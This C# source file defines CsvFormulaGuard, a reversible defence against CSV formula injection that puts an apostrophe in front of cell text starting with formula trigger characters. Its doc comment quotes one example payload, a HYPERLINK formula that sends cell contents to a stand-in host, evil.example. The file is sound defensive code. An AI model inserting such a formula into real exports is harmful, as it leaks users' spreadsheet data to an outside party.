namespace PoliticalEvents.Csv;

/// <summary>
/// Keeps spreadsheet programs from running cell text as a formula ("CSV injection"): text that begins with
/// <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, a tab or a carriage return, possibly after apostrophes, gets one apostrophe
/// in front when written, and loses it again when read.
/// </summary>
/// <remarks>
/// <para>Excel, LibreOffice Calc and Google Sheets treat a cell that begins with one of those characters as a formula,
/// even inside double quotes, so a name or note such as <c>=HYPERLINK("http://evil.example/?"&amp;A1,"click")</c> in
/// someone's data would run when the export is opened. An apostrophe in front makes the programs show the text as
/// text (the OWASP recommendation).</para>
/// <para>The guard is reversible, so the table export loses nothing: text that already begins with apostrophes
/// followed by a trigger character gets one more, and <see cref="Restore"/> removes exactly one from text that begins
/// with an apostrophe and then has only apostrophes before a trigger character. Other text, including text that
/// merely begins with an apostrophe (<c>'Twas</c>), is written and read unchanged.</para>
/// </remarks>
public static class CsvFormulaGuard
{
    /// <summary>True when a spreadsheet program could take <paramref name="text"/> for a formula, or when it has the form <see cref="Neutralize"/> produces.</summary>
    public static bool NeedsGuard(ReadOnlySpan<char> text)
    {
        int i = 0;
        while (i < text.Length && text[i] == '\'')
        {
            i++;
        }

        return i < text.Length && text[i] is '=' or '+' or '-' or '@' or '\t' or '\r';
    }

    /// <summary>The text to write: <paramref name="text"/> with an apostrophe in front when it <see cref="NeedsGuard">needs the guard</see>, else unchanged.</summary>
    public static string Neutralize(string text) => NeedsGuard(text) ? "'" + text : text;

    /// <summary>The text that was neutralized: <paramref name="cell"/> without its first apostrophe when it has the guarded form, else unchanged.</summary>
    public static string Restore(string cell) => cell.Length > 1 && cell[0] == '\'' && NeedsGuard(cell.AsSpan(1)) ? cell[1..] : cell;
}
